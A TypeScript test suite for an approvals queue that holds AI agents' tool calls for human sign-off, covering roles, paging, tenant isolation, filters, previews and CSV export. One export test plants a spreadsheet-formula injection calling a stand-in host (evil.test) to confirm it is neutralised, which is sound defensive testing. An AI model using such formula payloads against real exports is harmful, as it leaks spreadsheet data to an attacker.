import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { GET as approvalRoute } from "#app/api/approvals/[id]/route.ts";
import { GET as approvalsRoute } from "#app/api/approvals/route.ts";
import { newId } from "#lib/ids.ts";
import { putPolicy } from "#lib/policies/put-policy.ts";
import { decide, marking, parkCalls, parkCommand, requireOfCommands } from "#lib/testing/approval-scene.ts";
import { callRoute } from "#lib/testing/call-route.ts";
import { driveGranted } from "#lib/testing/drive-granted.ts";
import { type ModelServer, startModelServer } from "#lib/testing/model-server/index.ts";
import { createScene, createSceneMember, createSceneOrganization, type SceneMember, type SceneOrganization } from "#lib/testing/scene.ts";
import { useModelServer } from "#lib/testing/use-model-server.ts";
import type { ApprovalView } from "./approval-view.ts";
import { countPending } from "./count-pending.ts";
import { countTabs } from "./count-tabs.ts";
import { listAlike } from "./list-alike.ts";
import { listApprovals } from "./list-approvals.ts";
import { standingOf } from "./standing.ts";

let model: ModelServer;
let ours: SceneOrganization;

beforeAll(async () => {
  model = await startModelServer();
  useModelServer(model);
  ours = await createSceneOrganization();
});
afterAll(() => model.close());

const get = (person: SceneMember, query = "") => callRoute(approvalsRoute, { apiKey: person.apiKey, path: `/api/approvals${query}` });

describe("the queue", () => {
  it("offers each reader what they may decide, in the list as on the card and in what a decision answers", async () => {
    const organization = await createSceneOrganization();
    await requireOfCommands(organization, { approvals: 2, excludeRequester: true });
    const { approval } = await parkCommand(organization.approver);
    const offered = async (person: SceneMember) => {
      const [item] = (await get(person, "?status=pending")).body.items;
      const card = await callRoute(approvalRoute, { params: { id: approval.id }, apiKey: person.apiKey });
      expect(card.body.decisions).toEqual(item.decisions);
      return item.decisions;
    };
    const { owner, admin, approver, member, auditor } = organization;
    for (const person of [owner, admin]) expect(await offered(person)).toEqual(["approve", "deny"]);
    for (const person of [approver, member, auditor]) expect(await offered(person)).toEqual([]);
    expect(await decide(owner, approval, "approve")).toMatchObject({ status: "pending", decisions: [] });
    expect(await offered(owner)).toEqual([]);
    expect(await offered(admin)).toEqual(["approve", "deny"]);
  });

  it("shows the oldest first, in pages that miss nothing and repeat nothing while it changes", async () => {
    const organization = await createSceneOrganization();
    const asked: string[] = [];
    for (let turn = 0; turn < 3; turn += 1) {
      const { approvals } = await parkCalls(organization.member, [marking(`a${turn}`), marking(`b${turn}`)]);
      asked.push(...approvals.map((approval) => approval.id));
    }
    const seen: string[] = [];
    let cursor: string | null = null;
    do {
      const page = (await get(organization.approver, `?status=pending&limit=2&cursor=${cursor ?? ""}`)).body as Awaited<
        ReturnType<typeof listApprovals>
      >;
      expect(page.total).toBe(6 - (cursor ? 1 : 0));
      seen.push(...page.items.map((approval) => approval.id));
      if (!cursor) await decide(organization.approver, page.items[0] as ApprovalView, "deny");
      cursor = page.nextCursor;
    } while (cursor);
    expect(seen).toEqual(asked);
  });

  it("names each kind of which several wait for the caller, and lists one by its tool and effect", async () => {
    const { ours, theirs } = await createScene();
    await parkCalls(ours.member, [
      marking("one"),
      marking("two"),
      { tool: "web_fetch", args: { url: "https://example.com/", method: "POST" } },
    ]);
    await parkCalls(theirs.member, [marking("three"), marking("four"), marking("five")]);
    const kind = { tool: "shell", effect: "irreversible" } as const;
    expect(await listAlike(ours.approver.ctx)).toEqual([{ ...kind, total: 2 }]);
    expect(await listAlike(ours.member.ctx)).toEqual([]);
    expect(await listApprovals(ours.approver.ctx, { tab: "needs-you", ...kind, limit: 50 })).toMatchObject({ total: 2 });
    expect(await listApprovals(ours.approver.ctx, { tab: "needs-you", ...kind, effect: "read", limit: 50 })).toMatchObject({ total: 0 });
    const [first] = (await listApprovals(ours.approver.ctx, { tab: "needs-you", limit: 1 })).items;
    await decide(ours.approver, first as ApprovalView, "deny");
    expect(await listAlike(ours.approver.ctx)).toEqual([]);
  });

  it("is empty for another organization, in list, counts, badge and file, and its ids do not exist there", async () => {
    const scene = await createScene();
    const { approval } = await parkCommand(scene.ours.member);
    for (const role of ["owner", "member", "auditor"] as const) {
      const stranger = scene.theirs[role];
      expect((await get(stranger)).body).toEqual({ items: [], nextCursor: null, total: 0 });
      expect((await get(stranger, "?format=json")).body).toEqual([]);
      expect(await countPending(stranger.ctx)).toBe(0);
      expect(Object.values(await countTabs(stranger.ctx))).toEqual([0, 0, 0, 0]);
      const [theirs, never] = await Promise.all(
        [approval.id, newId()].map((id) => callRoute(approvalRoute, { params: { id }, apiKey: stranger.apiKey })),
      );
      expect([theirs?.status, theirs?.body]).toEqual([never?.status, never?.body]);
      expect(theirs?.status).toBe(404);
    }
  });

  it("divides by who must act, the same for everyone as the rule that decides", async () => {
    const organization = await createSceneOrganization();
    const { owner, admin, approver, member, auditor } = organization;
    const second = await createSceneMember(organization.id, "approver");
    await parkCommand(owner);
    await requireOfCommands(organization, { excludeRequester: true });
    await parkCommand(owner);
    await requireOfCommands(organization, { approvals: 2, roles: ["admin", "approver"] });
    const { approval } = await parkCommand(approver);
    await decide(second, approval, "approve");
    const everything = await listApprovals(owner.ctx, { status: "pending", limit: 50 });
    expect(everything.total).toBe(3);
    for (const person of [owner, admin, approver, member, auditor, second]) {
      const visible = (await listApprovals(person.ctx, { status: "pending", limit: 50 })).items;
      const mine = visible.filter((each) => standingOf(person.ctx, each) === "may-decide").map((each) => each.id);
      const tab = await listApprovals(person.ctx, { tab: "needs-you", limit: 50 });
      expect([person.role, tab.items.map((each) => each.id), tab.total]).toEqual([person.role, mine, mine.length]);
      const counts = await countTabs(person.ctx);
      expect(counts).toMatchObject({ "needs-you": mine.length, others: visible.length - mine.length });
      expect(await countPending(person.ctx)).toBe(mine.length);
    }
    expect(await countPending(second.ctx)).toBe(2);
    expect(await countPending(member.ctx)).toBe(0);
  });

  it("filters by chat, tool, status and time, and counts what is left, not the page", async () => {
    const organization = await createSceneOrganization();
    const { approver, member } = organization;
    const one = await parkCommand(member);
    const two = await parkCommand(member);
    await decide(approver, two.approval, "deny", "no");
    const ids = async (query: string) => (await get(approver, query)).body.items.map((item: ApprovalView) => item.id);
    expect(await ids(`?chatId=${one.chatId}`)).toEqual([one.approval.id]);
    expect(await ids(`?chatId=${newId()}`)).toEqual([]);
    expect(await ids("?status=denied")).toEqual([two.approval.id]);
    expect(await ids("?tab=decided&tool=SHELL")).toEqual([two.approval.id]);
    expect(await ids("?tool=web_fetch")).toEqual([]);
    expect(await ids(`?to=${new Date(two.approval.createdAt).toISOString()}`)).toEqual([one.approval.id]);
    expect((await get(approver, "?limit=1")).body).toMatchObject({ total: 2, items: [{ id: two.approval.id }] });
    for (const query of [
      "?status=maybe",
      "?tab=all",
      "?from=yesterday",
      "?from=2026-01-01",
      "?user=1",
      "?chatId=1",
      "?from=0000-01-01T00:00:00Z",
      "?to=9999-12-31T23:59:59-12:00",
      "?limit=0",
      "?limit=201",
      "?cursor=x",
    ]) {
      expect(await get(approver, query), query).toMatchObject({ status: 400, body: { code: "invalid_request" } });
    }
  });
});

describe("one request", () => {
  it("says what the reader may do, who has agreed by name, and what a command would meet", async () => {
    const organization = await createSceneOrganization();
    await requireOfCommands(organization, { approvals: 2 });
    const { approval } = await parkCommand(organization.member);
    await decide(organization.owner, approval, "approve", "go");
    const read = async (person: SceneMember) =>
      (await callRoute(approvalRoute, { params: { id: approval.id }, apiKey: person.apiKey })).body;
    expect(await read(organization.admin)).toMatchObject({
      standing: "may-decide",
      voters: [{ name: "The owner", decision: "approve", reason: "go" }],
      preview: { kind: "command", folder: "/workspace", sandbox: { level: expect.any(String) }, unseen: null },
      call: { status: "awaiting-approval" },
    });
    expect(await read(organization.owner)).toMatchObject({ standing: "has-voted" });
    expect(await read(organization.member)).toMatchObject({ standing: "not-an-approver", isChatOpen: true });
  });

  it("says that a command may run more than its text shows, and why", async () => {
    const { owner, member } = await createSceneOrganization();
    const [approval] = (await parkCalls(member, [{ tool: "shell", args: { command: "sh ./deploy.sh" } }])).approvals;
    const { body } = await callRoute(approvalRoute, { params: { id: approval.id }, apiKey: owner.apiKey });
    expect(body.preview.unseen).toBe("a shell runs a file");
  });

  it("shows what a write would replace, or that it would replace nothing", async () => {
    const { owner, member } = await createSceneOrganization();
    await putPolicy(owner.ctx, { preset: "cautious" });
    const write = (content: string) => ({ tool: "file_system", args: { action: "write", path: "notes.txt", content } });
    const { approvals, run } = await parkCalls(member, [write("one")]);
    const read = async (id: string) => (await callRoute(approvalRoute, { params: { id }, apiKey: owner.apiKey })).body;
    expect(await read(approvals[0].id)).toMatchObject({ preview: { kind: "write", current: { state: "none" } } });
    await decide(owner, approvals[0], "approve");
    await driveGranted(member, run.id);
    const next = await parkCalls(member, [write("two")]);
    expect(await read(next.approvals[0].id)).toMatchObject({ preview: { kind: "write", current: { state: "text", text: "one" } } });
    expect((await read(approvals[0].id)).preview).toBeNull();
  });
});

describe("the file", () => {
  it("holds every record that the list counts, one a line, with nothing that a spreadsheet would calculate", async () => {
    const { approval } = await parkCommand(ours.member);
    await decide(ours.approver, approval, "deny", '=HYPERLINK("http://evil.test/?"&A1,"ok")\r\nmore');
    for (let turn = 0; turn < 4; turn += 1) await parkCommand(ours.member, { text: "@SUM(1)" });
    const { total } = (await get(ours.approver)).body;
    const { body, headers } = await get(ours.approver, "?format=csv");
    expect(headers.get("content-type")).toContain("text/csv");
    const lines = body.trimEnd().split("\r\n");
    expect(lines).toHaveLength(total + 1);
    for (const line of lines) expect(line).not.toMatch(/(^|,)"?[=+@-]/);
    expect(body).toContain("'=HYPERLINK");
    const items = (await get(ours.approver, "?format=json")).body as ApprovalView[];
    expect(items).toHaveLength(total);
    expect(items.find((item) => item.id === approval.id)?.decisionReason).toContain('=HYPERLINK("http://evil.test/?"&A1,"ok")');
    expect((await get(ours.approver, "?format=csv&tab=decided")).body.trimEnd().split("\r\n")).toHaveLength(2);
  });

  it("goes on over as many pages as there are", async () => {
    const { items } = await listApprovals(ours.approver.ctx, { status: "pending", limit: 1 });
    const [row] = items;
    if (!row) throw new Error("no row");
    await ours.owner.ctx.db.sql(
      (sql) => sql`
        with calls as (
          insert into tool_calls (tenant_id, id, run_id, chat_id, tool_call_id, step, position, tool, input, status, entry_point, user_id)
          select tenant_id, gen_random_uuid(), run_id, chat_id, 'x' || n, step, n, tool, input, 'denied', entry_point, user_id
            from tool_calls, generate_series(1, 450) n where id = ${row.callId} returning id, tool_call_id)
        insert into approvals (tenant_id, id, call_id, tool_call_id, run_id, chat_id, tool, tool_version, effect, input, input_digest, summary, rule_id, reason,
                               entry_point, requested_by, requirement, votes, offered, status)
        select tenant_id, gen_random_uuid(), calls.id, calls.tool_call_id, run_id, chat_id, tool, tool_version, effect, input, input_digest, summary, rule_id, reason,
               entry_point, requested_by, requirement, votes, offered, 'denied' from approvals, calls where approvals.id = ${row.id}`,
    );
    const { total } = (await get(ours.approver, "?tab=decided")).body;
    expect(total).toBeGreaterThan(450);
    const ids = ((await get(ours.approver, "?tab=decided&format=json")).body as ApprovalView[]).map((item) => item.id);
    expect([ids.length, new Set(ids).size]).toEqual([total, total]);
  });
});
